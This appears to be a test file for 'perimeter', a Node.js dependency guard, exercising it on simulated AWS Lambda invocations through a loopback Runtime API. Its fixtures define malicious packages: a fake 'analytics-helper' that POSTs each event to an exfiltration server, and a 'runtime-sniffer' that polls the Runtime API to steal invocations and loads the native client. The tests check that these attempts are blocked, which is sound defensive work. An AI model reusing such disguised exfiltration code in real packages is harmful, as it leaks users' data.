/**
 * AWS Lambda, end to end through the Runtime API protocol: a loopback Runtime API (test/servers/lambda-runtime-api.ts)
 * and a runtime loop (test/fixtures/lambda-runtime/bootstrap.mjs, placed in its own LAMBDA_RUNTIME_DIR the way
 * /var/runtime is) serve real invocations to a handler whose dependency tries to exfiltrate each event. Both ways of
 * adopting the guard: the no-code preload (`--import perimeter/register`) and the `perimeter/lambda` wrapper with no
 * preload. When AWS's own runtime interface client (aws-lambda-ric, native rapid-client.node) is available it runs
 * the same function too.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import {
  FIXTURES,
  NODE_MAJOR,
  PACKAGE_ROOT,
  runGuarded,
  startRecordingServer,
  tempDir,
  writeTree,
} from '../helpers.js';
import { type RuntimeApi, startRuntimeApi } from '../servers/lambda-runtime-api.js';

type Server = Awaited<ReturnType<typeof startRecordingServer>>;

const BOOTSTRAP = join(FIXTURES, 'lambda-runtime/bootstrap.mjs');
const FUNCTION_NAME = 'checkout';

// The dependency that sends every event to its author, one that polls the Runtime API itself (it would steal the next
// invocation's event), and one that loads the runtime's native client. Each reports how its attempt ended.
const DEPENDENCIES = {
  'node_modules/analytics-helper/package.json': '{"name":"analytics-helper","main":"index.js"}',
  'node_modules/analytics-helper/index.js': `const http = require('node:http');
module.exports = (event) => new Promise((resolve) => {
  const req = http.request(process.env.EXFIL_URL + '/collect', { method: 'POST' }, (res) => { res.resume(); resolve('sent'); });
  req.on('error', (e) => resolve(e.code || e.message));
  req.end(JSON.stringify(event));
});`,
  'node_modules/runtime-sniffer/package.json': '{"name":"runtime-sniffer","main":"index.js"}',
  'node_modules/runtime-sniffer/index.js': `const http = require('node:http');
exports.poll = () => new Promise((resolve) => {
  const req = http.get('http://' + process.env.AWS_LAMBDA_RUNTIME_API + '/2018-06-01/runtime/invocation/next', (res) => { res.resume(); resolve('got ' + res.statusCode); });
  req.on('error', (e) => resolve(e.code || e.message));
});
exports.loadNativeClient = () => {
  try { require(process.env.LAMBDA_RUNTIME_DIR + '/rapid-client.node'); return 'loaded'; }
  catch (e) { return e.code || e.message; }
};`,
};

// The handler's own legitimate call: a charge on the "Stripe" the policy allows (a loopback stand-in).
const CHARGE = `import http from 'node:http';
function charge(amount) {
  return new Promise((resolve, reject) => {
    const req = http.request(process.env.STRIPE_URL + '/v1/charges', { method: 'POST' }, (res) => { res.resume(); resolve(res.statusCode); });
    req.on('error', reject);
    req.end('amount=' + amount);
  });
}`;

const PLAIN_HANDLER = `${CHARGE}
import track from 'analytics-helper';
import { poll, loadNativeClient } from 'runtime-sniffer';
export const handler = async (event, context) => {
  if (event.fail) throw Object.assign(new Error('card declined'), { name: 'CardError' });
  const result = { id: context.awsRequestId, charge: await charge(event.amount), exfil: await track(event) };
  if (event.sniff) {
    result.sniffed = await poll();
    result.native = loadNativeClient();
  }
  return result;
};
`;

function policy(stripePort: number) {
  return {
    mode: 'block',
    network: { allow: ['https://api.stripe.com', `POST http://127.0.0.1:${stripePort}/v1/charges`] },
    // The test's own settings (where the loopback "Stripe" and the attacker's server listen).
    env: { allow: ['STRIPE_URL', 'EXFIL_URL'] },
  };
}

const EVENTS = [
  { id: 'req-1', event: { amount: 100 } },
  { id: 'req-2', event: { fail: true } },
  { id: 'req-3', event: { amount: 5, sniff: true } },
];

interface LambdaRun {
  run: Awaited<ReturnType<typeof runGuarded>>;
  api: RuntimeApi;
}

let stripe: Server;
let exfil: Server;

before(async () => {
  stripe = await startRecordingServer();
  exfil = await startRecordingServer();
});
after(async () => {
  await stripe.close();
  await exfil.close();
});

/** A task root (LAMBDA_TASK_ROOT) with the handler and its dependencies, and a runtime folder (LAMBDA_RUNTIME_DIR). */
function lambdaLayout(files: Record<string, string>, runtimeFiles: Record<string, string> = {}) {
  const root = tempDir('perimeter-lambda-');
  const task = join(root, 'task');
  const runtime = join(root, 'runtime');
  writeTree(task, { ...DEPENDENCIES, ...files });
  mkdirSync(runtime, { recursive: true });
  copyFileSync(BOOTSTRAP, join(runtime, 'bootstrap.mjs'));
  // A stand-in for the runtime's native client: a dependency must be denied before the loader even reads it.
  writeTree(runtime, { 'rapid-client.node': 'not an ELF file', ...runtimeFiles });
  // The package as an installed dependency of the function (the real path is this repo's, as with `npm link`).
  symlinkSync(PACKAGE_ROOT, join(task, 'node_modules/perimeter'), 'dir');
  return { task, runtime };
}

async function runLambda(options: {
  files: Record<string, string>;
  handler: string;
  preload: 'import' | 'none';
  events?: typeof EVENTS;
  policyDocument?: unknown;
  entry?: (runtime: string) => string;
  extraEnv?: Record<string, string>;
  layout?: { task: string; runtime: string };
}): Promise<LambdaRun> {
  const { task, runtime } = options.layout ?? lambdaLayout(options.files);
  const api = await startRuntimeApi(options.events ?? EVENTS, { functionName: FUNCTION_NAME });
  try {
    const run = await runGuarded({
      dir: task,
      policy: options.policyDocument ?? policy(stripe.port),
      script: options.entry ? options.entry(runtime) : join(runtime, 'bootstrap.mjs'),
      preload: options.preload,
      env: {
        AWS_LAMBDA_RUNTIME_API: api.address,
        LAMBDA_RUNTIME_DIR: runtime,
        LAMBDA_TASK_ROOT: task,
        _HANDLER: options.handler,
        AWS_LAMBDA_FUNCTION_NAME: FUNCTION_NAME,
        STRIPE_URL: stripe.url,
        EXFIL_URL: exfil.url,
        ...options.extraEnv,
      },
    });
    return { run, api };
  } finally {
    await api.close();
  }
}

function reply(api: RuntimeApi, id: string): Record<string, any> {
  const found = api.responses.find((r) => r.id === id);
  const errors = [...api.initErrors, ...api.errors].map((e) => e.body).join('\n');
  assert.ok(found, `no response for ${id}; runtime API saw:\n${api.log.join('\n')}\nerrors:\n${errors}`);
  return JSON.parse(found.body);
}

function violation(run: LambdaRun['run'], pkg: string, invocation: string) {
  return run.events.find((e) => e.type === 'violation' && e.package === pkg && e.invocation === invocation);
}

/** What every run must show: the legitimate charges went through, the exfiltration never reached its server. */
function assertNothingLeaked(chargesBefore: number, expectedCharges: number) {
  assert.equal(exfil.connections, 0, 'the exfiltration server saw a connection');
  assert.equal(exfil.requests.length, 0);
  assert.equal(stripe.requests.length - chargesBefore, expectedCharges);
}

describe('the preload alone (NODE_OPTIONS=--import perimeter/register), with a Runtime API loop', () => {
  let result: LambdaRun;
  let chargesBefore: number;
  before(async () => {
    chargesBefore = stripe.requests.length;
    result = await runLambda({ files: { 'index.mjs': PLAIN_HANDLER }, handler: 'index.handler', preload: 'import' });
  });

  test('invocations flow: responses posted, the handler error posted to /error, the loop ends cleanly', () => {
    const { run, api } = result;
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(reply(api, 'req-1'), { id: 'req-1', charge: 200, exfil: 'ERR_PERIMETER_BLOCKED' });
    const error = api.errors.find((e) => e.id === 'req-2');
    assert.ok(error, 'the failing invocation was not reported');
    assert.equal(JSON.parse(error.body).errorType, 'CardError');
    assert.equal(JSON.parse(error.body).errorMessage, 'card declined');
    assert.equal(error.headers['lambda-runtime-function-error-type'], 'CardError');
    assertNothingLeaked(chargesBefore, 2);
  });

  test('the exfiltration is blocked, attributed to the dependency, and carries the request id and function name', () => {
    const { run } = result;
    for (const id of ['req-1', 'req-3']) {
      const event = violation(run, 'analytics-helper', id);
      assert.ok(event, `no event for ${id}: ${JSON.stringify(run.events)}`);
      assert.equal(event.action, 'blocked');
      assert.equal(event.function, FUNCTION_NAME);
      assert.equal(event.target, `POST ${exfil.url}/collect`);
    }
  });

  test('the runtime polls the Runtime API; a dependency polling it or loading its native client is denied', () => {
    const { run, api } = result;
    const sniffed = reply(api, 'req-3');
    assert.equal(sniffed.sniffed, 'ERR_PERIMETER_BLOCKED');
    assert.equal(sniffed.native, 'ERR_PERIMETER_BLOCKED');
    // Three events and the final 410: the runtime's own polls only; the dependency's never arrived.
    assert.equal(api.log.filter((l) => l.endsWith('/invocation/next')).length, 4, api.log.join('\n'));
    const poll = violation(run, 'runtime-sniffer', 'req-3');
    assert.ok(poll, JSON.stringify(run.events));
    assert.match(poll.target, /^GET http:\/\/127\.0\.0\.1:\d+\/2018-06-01\/runtime\/invocation\/next$/);
    const addon = run.events.find((e) => e.capability === 'addon' && e.package === 'runtime-sniffer');
    assert.ok(addon, JSON.stringify(run.events));
    assert.equal(addon.action, 'blocked');
  });
});

const WRAPPED_ASYNC = `${CHARGE}
import { guard } from 'perimeter/lambda';
import track from 'analytics-helper';
import { poll } from 'runtime-sniffer';
export const handler = guard(async (event, context) => {
  if (event.fail) throw Object.assign(new Error('card declined'), { name: 'CardError' });
  const result = { id: context.awsRequestId, charge: await charge(event.amount), exfil: await track(event) };
  if (event.sniff) result.sniffed = await poll();
  return result;
});
`;

const WRAPPED_CALLBACK = `const http = require('node:http');
const { guard } = require('perimeter/lambda');
const track = require('analytics-helper');
exports.handler = guard((event, context, callback) => {
  if (event.fail) return callback(Object.assign(new Error('card declined'), { name: 'CardError' }));
  const req = http.request(process.env.STRIPE_URL + '/v1/charges', { method: 'POST' }, (res) => {
    res.resume();
    track(event).then((exfil) => callback(null, { id: context.awsRequestId, charge: res.statusCode, exfil, arity: exports.handler.length }));
  });
  req.on('error', callback);
  req.end('amount=' + event.amount);
});
`;

const WRAPPED_STREAMING = `import { guard } from 'perimeter/lambda';
import track from 'analytics-helper';
export const handler = awslambda.streamifyResponse(
  guard(async (event, responseStream, context) => {
    if (event.fail) throw Object.assign(new Error('card declined'), { name: 'CardError' });
    responseStream.write('start;');
    const exfil = await track(event);
    responseStream.end('exfil=' + exfil + ';id=' + context.awsRequestId);
  }),
);
`;

describe('the perimeter/lambda wrapper, no preload', () => {
  // PERIMETER_FUNCTION names the process; the wrapper must name each event after the invocation's context instead.
  const env = { PERIMETER_FUNCTION: 'process-default' };

  test('async handler: responses, /error, blocked exfiltration with request id and function name', async () => {
    const chargesBefore = stripe.requests.length;
    const { run, api } = await runLambda({
      files: { 'index.mjs': WRAPPED_ASYNC },
      handler: 'index.handler',
      preload: 'none',
      extraEnv: env,
    });
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(reply(api, 'req-1'), { id: 'req-1', charge: 200, exfil: 'ERR_PERIMETER_BLOCKED' });
    assert.equal(JSON.parse(api.errors.find((e) => e.id === 'req-2')!.body).errorType, 'CardError');
    assert.equal(reply(api, 'req-3').sniffed, 'ERR_PERIMETER_BLOCKED');
    for (const id of ['req-1', 'req-3']) {
      const event = violation(run, 'analytics-helper', id);
      assert.ok(event, `no event for ${id}: ${JSON.stringify(run.events)}`);
      assert.equal(event.function, FUNCTION_NAME);
    }
    assert.ok(violation(run, 'runtime-sniffer', 'req-3'), JSON.stringify(run.events));
    assert.equal(api.log.filter((l) => l.endsWith('/invocation/next')).length, 4, api.log.join('\n'));
    assertNothingLeaked(chargesBefore, 2);
  });

  test('callback-style handler (Node 20/22 runtimes): the wrapper keeps the arity and answers through the callback', async () => {
    const chargesBefore = stripe.requests.length;
    const { run, api } = await runLambda({
      files: { 'index.cjs': WRAPPED_CALLBACK },
      handler: 'index.handler',
      preload: 'none',
      events: EVENTS.slice(0, 2),
      extraEnv: env,
    });
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(reply(api, 'req-1'), { id: 'req-1', charge: 200, exfil: 'ERR_PERIMETER_BLOCKED', arity: 3 });
    assert.equal(JSON.parse(api.errors.find((e) => e.id === 'req-2')!.body).errorType, 'CardError');
    const event = violation(run, 'analytics-helper', 'req-1');
    assert.ok(event, JSON.stringify(run.events));
    assert.equal(event.function, FUNCTION_NAME);
    assertNothingLeaked(chargesBefore, 1);
  });

  test('response streaming (awslambda.streamifyResponse around guard): streamed body, context found as the third argument', async () => {
    const { run, api } = await runLambda({
      files: { 'index.mjs': WRAPPED_STREAMING },
      handler: 'index.handler',
      preload: 'none',
      events: [
        { id: 'req-s1', event: { amount: 1 } },
        { id: 'req-s2', event: { fail: true } },
      ],
      extraEnv: env,
    });
    assert.equal(run.code, 0, run.stderr);
    const streamed = api.responses.find((r) => r.id === 'req-s1');
    assert.ok(streamed, api.log.join('\n'));
    assert.equal(streamed.headers['lambda-runtime-function-response-mode'], 'streaming');
    assert.equal(streamed.body, 'start;exfil=ERR_PERIMETER_BLOCKED;id=req-s1');
    assert.equal(JSON.parse(api.errors.find((e) => e.id === 'req-s2')!.body).errorType, 'CardError');
    const event = violation(run, 'analytics-helper', 'req-s1');
    assert.ok(event, JSON.stringify(run.events));
    assert.equal(event.function, FUNCTION_NAME);
    assert.equal(exfil.connections, 0);
  });

  test('an invalid policy fails the init (posted to /init/error); the handler never runs', async () => {
    // A CommonJS handler: Node 20 also reports an error thrown by CommonJS imported from an ES module as uncaught,
    // after the importer has caught it, which would end this loop before it can post the init error.
    const { run, api } = await runLambda({
      files: { 'index.cjs': WRAPPED_CALLBACK },
      handler: 'index.handler',
      preload: 'none',
      policyDocument: { mode: 'lockdown', network: { allow: [] } },
    });
    assert.equal(run.code, 1, run.stderr);
    assert.equal(api.initErrors.length, 1);
    const body = JSON.parse(api.initErrors[0]!.body);
    assert.equal(body.code, 'ERR_PERIMETER_POLICY_INVALID');
    assert.deepEqual(api.log, ['POST /2018-06-01/runtime/init/error']);
    assert.equal(api.responses.length + api.errors.length, 0);
  });
});

// AWS's runtime interface client, built once into a cache (it compiles curl and its native client, ~1 minute).
const RIC_CACHE = resolve(PACKAGE_ROOT, '../../node_modules/.cache/perimeter-ric');
const RIC_PACKAGE = join(RIC_CACHE, 'node_modules/aws-lambda-ric');

function ensureRic(): string | null {
  if (existsSync(join(RIC_PACKAGE, 'rapid-client.node'))) return RIC_PACKAGE;
  mkdirSync(RIC_CACHE, { recursive: true });
  writeTree(RIC_CACHE, { 'package.json': '{"private":true}' });
  const npm = spawnSync('npm', ['install', '--no-audit', '--no-fund', '--no-save', 'aws-lambda-ric@4.0.2'], {
    cwd: RIC_CACHE,
    encoding: 'utf8',
    timeout: 600_000,
  });
  return npm.status === 0 && existsSync(join(RIC_PACKAGE, 'rapid-client.node')) ? RIC_PACKAGE : null;
}

describe("AWS's runtime interface client (aws-lambda-ric 4, native rapid-client.node) under the preload", () => {
  // aws-lambda-ric 4 supports Node >= 22 (engines), like the Lambda runtimes that ship it.
  const ric = NODE_MAJOR >= 22 ? ensureRic() : null;
  test('the RIC loads its native client and serves invocations; the dependency is denied the same', {
    skip:
      ric === null
        ? NODE_MAJOR < 22
          ? 'aws-lambda-ric needs Node >= 22'
          : 'aws-lambda-ric could not be built here'
        : false,
  }, async () => {
    const layout = lambdaLayout({ 'index.mjs': PLAIN_HANDLER });
    // The managed runtime's layout: the RIC's bundle and its addon side by side in /var/runtime.
    copyFileSync(join(ric!, 'index.mjs'), join(layout.runtime, 'index.mjs'));
    copyFileSync(join(ric!, 'rapid-client.node'), join(layout.runtime, 'rapid-client.node'));
    const chargesBefore = stripe.requests.length;
    const { run, api } = await runLambda({
      files: {},
      layout,
      handler: 'index.handler',
      preload: 'import',
      entry: (runtime) => join(runtime, 'index.mjs'),
      extraEnv: {
        AWS_LAMBDA_FUNCTION_VERSION: '$LATEST',
        AWS_LAMBDA_FUNCTION_MEMORY_SIZE: '128',
        AWS_LAMBDA_LOG_GROUP_NAME: '/aws/lambda/checkout',
        AWS_LAMBDA_LOG_STREAM_NAME: 'stream',
      },
    });
    // The RIC exits when `next` answers 410 (the end of our queue); what matters is what it did before.
    assert.deepEqual(reply(api, 'req-1'), { id: 'req-1', charge: 200, exfil: 'ERR_PERIMETER_BLOCKED' });
    assert.equal(JSON.parse(api.errors.find((e) => e.id === 'req-2')!.body).errorType, 'CardError');
    const sniffed = reply(api, 'req-3');
    assert.equal(sniffed.sniffed, 'ERR_PERIMETER_BLOCKED');
    assert.equal(sniffed.native, 'ERR_PERIMETER_BLOCKED');
    assert.equal(api.log.filter((l) => l.endsWith('/invocation/next')).length, 4, api.log.join('\n'));
    // Its own addon load was allowed (no event names the runtime's code), the dependency's was not.
    const addonEvents = run.events.filter((e) => e.capability === 'addon');
    assert.deepEqual(
      addonEvents.map((e) => e.package),
      ['runtime-sniffer'],
      JSON.stringify(addonEvents),
    );
    for (const id of ['req-1', 'req-3']) {
      const event = violation(run, 'analytics-helper', id);
      assert.ok(event, `no event for ${id}: ${JSON.stringify(run.events)}\n${run.stderr}`);
      assert.equal(event.function, FUNCTION_NAME);
    }
    assertNothingLeaked(chargesBefore, 2);
  });
});
